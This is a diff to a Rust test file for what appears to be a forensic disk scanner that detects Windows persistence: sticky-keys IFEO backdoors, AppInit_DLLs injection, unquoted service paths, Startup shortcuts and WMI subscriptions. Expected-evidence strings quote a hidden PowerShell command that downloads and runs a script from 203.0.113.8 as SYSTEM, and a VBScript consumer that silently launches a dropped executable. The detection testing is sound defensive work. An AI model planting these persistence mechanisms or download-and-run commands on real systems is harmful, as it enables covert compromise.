@@ -31,7 +31,7 @@ pub(crate) fn hive_findings(t: &Value) -> Vec<(String, String, String, String, S
             let p = f["path"].as_str().unwrap_or("");
             let autorun = f["rule"]
                 .as_str()
-                .is_some_and(|r| r.starts_with("windows-autorun"));
+                .is_some_and(|r| r.starts_with("windows-autorun") || HIJACKS.contains(&r));
             (p.starts_with("/Windows/System32/config/") || p.ends_with("NTUSER.DAT")) && !autorun
         })
         .map(|f| {
@@ -196,6 +196,154 @@ fn what_windows_publishers_leave_behind_is_found() {
     }
 }
 
+/// The rules of the execution hijacks, the WMI subscriptions and the Startup shortcuts.
+const HIJACKS: &[&str] = &[
+    "windows-appinit-dlls",
+    "windows-ifeo-hijack",
+    "windows-startup-shortcut",
+    "windows-unquoted-service-path",
+    "windows-wmi-subscription",
+];
+
+/// (rule, path, severity, evidence) of the findings of `rules` in `t`, sorted.
+fn findings_of(t: &Value, rules: &[&str]) -> Vec<(String, String, String, String)> {
+    let mut v: Vec<_> = t["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| rules.contains(&f["rule"].as_str().unwrap_or("")))
+        .map(|f| {
+            let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
+            (s("rule"), s("path"), s("severity"), s("evidence"))
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+const WMI: &str = "/Windows/System32/wbem/Repository/OBJECTS.DATA";
+const ALICE_STARTUP: &str =
+    "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup";
+
+/// The hijacks of the leaky disk in `dir` (scanned: `t`, and `--quick`: `q`) and of the clean
+/// one (`c`): the hives' values are what hivexget reads back (hives.env), the shortcuts' targets
+/// and arguments what lnkinfo reads back (lnk.env), the WMI repository is wmi-repository.py's.
+fn assert_hijacks(dir: &std::path::Path, t: &Value, q: &Value, c: &Value) {
+    let env = |file: &str| -> BTreeMap<String, String> {
+        std::fs::read_to_string(dir.join(file))
+            .unwrap()
+            .lines()
+            .filter_map(|l| l.split_once('='))
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    };
+    let hives = env("hives.env");
+    let lnk = env("lnk.env");
+    let got = findings_of(t, HIJACKS);
+    let brief: Vec<(&str, &str, &str)> = got
+        .iter()
+        .map(|(r, p, s, _)| (r.as_str(), p.as_str(), s.as_str()))
+        .collect();
+    let sync = format!("{STARTUP}/Sync.lnk");
+    let bginfo = format!("{STARTUP}/BGInfo.lnk");
+    let helper = format!("{ALICE_STARTUP}/helper.lnk");
+    assert_eq!(
+        brief,
+        [
+            ("windows-appinit-dlls", SOFTWARE, "high"),
+            ("windows-ifeo-hijack", SOFTWARE, "critical"),
+            ("windows-ifeo-hijack", SOFTWARE, "high"),
+            ("windows-startup-shortcut", bginfo.as_str(), "info"),
+            ("windows-startup-shortcut", sync.as_str(), "high"),
+            ("windows-startup-shortcut", helper.as_str(), "medium"),
+            ("windows-unquoted-service-path", SYSTEM, "medium"),
+            ("windows-wmi-subscription", WMI, "high"),
+            ("windows-wmi-subscription", WMI, "high"),
+        ],
+        "{got:#?}"
+    );
+    let evidence = |rule: &str, path: &str| -> Vec<&str> {
+        got.iter()
+            .filter(|f| f.0 == rule && f.1 == path)
+            .map(|f| f.3.as_str())
+            .collect()
+    };
+    assert_eq!(
+        evidence("windows-ifeo-hijack", SOFTWARE),
+        [
+            format!(
+                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe `Debugger`: sethc.exe is replaced by {}; an accessibility program the logon screen starts (the sticky-keys backdoor: a SYSTEM shell without logging on)",
+                hives["HIVEX_IFEO_SETHC"]
+            ),
+            format!(
+                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe `MonitorProcess`: runs {} (a program in ProgramData, which users may write by default) whenever notepad.exe exits; monitoring on (GlobalFlag 0x200)",
+                hives["HIVEX_MONITOR"]
+            )
+        ]
+    );
+    assert_eq!(
+        evidence("windows-appinit-dlls", SOFTWARE),
+        [format!(
+            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows `AppInit_DLLs`: {} injected into every process that loads user32.dll, loaded (LoadAppInit_DLLs 1)",
+            hives["HIVEX_APPINIT"]
+        )]
+    );
+    let image = &hives["HIVEX_BUILDAGENT_IMAGE"];
+    let program = &image[..image.find(".exe").unwrap() + 4];
+    assert_eq!(
+        evidence("windows-unquoted-service-path", SYSTEM),
+        [format!(
+            "service `BuildAgent` ImagePath is unquoted with a space in its path: Windows tries C:\\Program.exe before {program}"
+        )]
+    );
+    // The shortcuts: what lnkinfo reads is what is judged.
+    assert_eq!(
+        evidence("windows-startup-shortcut", &bginfo),
+        [format!(
+            "shortcut `BGInfo.lnk` in the all-users Startup folder runs \"{}\" {} at every logon",
+            lnk["LNK_BGInfo_TARGET"], lnk["LNK_BGInfo_ARGS"]
+        )]
+    );
+    assert_eq!(
+        evidence("windows-startup-shortcut", &sync),
+        [format!(
+            "shortcut `Sync.lnk` in the all-users Startup folder runs {} {} at every logon: PowerShell runs downloaded code (Invoke-Expression of a download)",
+            lnk["LNK_Sync_TARGET"], lnk["LNK_Sync_ARGS"]
+        )]
+    );
+    assert_eq!(
+        evidence("windows-startup-shortcut", &helper),
+        [format!(
+            "shortcut `helper.lnk` in the Startup folder of alice runs {} {} at every logon: its program is in AppData, which users may write by default",
+            lnk["LNK_helper_TARGET"], lnk["LNK_helper_ARGS"]
+        )]
+    );
+    assert_eq!(
+        evidence("windows-wmi-subscription", WMI),
+        [
+            "WMI subscription binds filter `Telemetry Filter` to ActiveScriptEventConsumer `Telemetry`, which runs VBScript: CreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\svc.exe\", 0 as SYSTEM",
+            "WMI subscription binds filter `WindowsUpdater Filter` to CommandLineEventConsumer `WindowsUpdater`, which runs powershell.exe -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/p.ps1')\" (PowerShell runs downloaded code (Invoke-Expression of a download)) as SYSTEM",
+        ]
+    );
+    // --quick: the hives and the repository through the volume checks, the Startup folders
+    // through the registry of file rules.
+    assert_eq!(findings_of(q, HIJACKS), got);
+    // The stock image (a mitigation-only IFEO key, AppInit_DLLs empty, a quoted service path
+    // with spaces, the SCM subscription, a vendor's shortcut): the shortcut's inventory line.
+    let clean: Vec<_> = findings_of(c, HIJACKS)
+        .into_iter()
+        .map(|f| (f.0, f.1, f.2))
+        .collect();
+    assert_eq!(
+        clean,
+        [(
+            "windows-startup-shortcut".to_string(),
+            bginfo.clone(),
+            "info".to_string()
+        )]
+    );
+}
+
 /// The rules of the Windows tamper checks (and the miner names they share with Linux).
 const TAMPER: &[&str] = &[
     "miner-trace",
@@ -340,6 +488,8 @@ fn windows_persistence_is_found_and_a_stock_image_stays_quiet() {
     let clean = disk("tamper-clean", "clean");
     let (code, c) = scan_json(&clean.join("disk.img"), &[]);
     assert_eq!(code, 0, "{c:#}");
+    // The hijacks, the WMI subscriptions and the Startup shortcuts, on the same disks.
+    assert_hijacks(&dir, &t, &q, &c);
     let got: Vec<_> = tamper_findings(&c)
         .into_iter()
         .map(|f| (f.0, f.1, f.2))
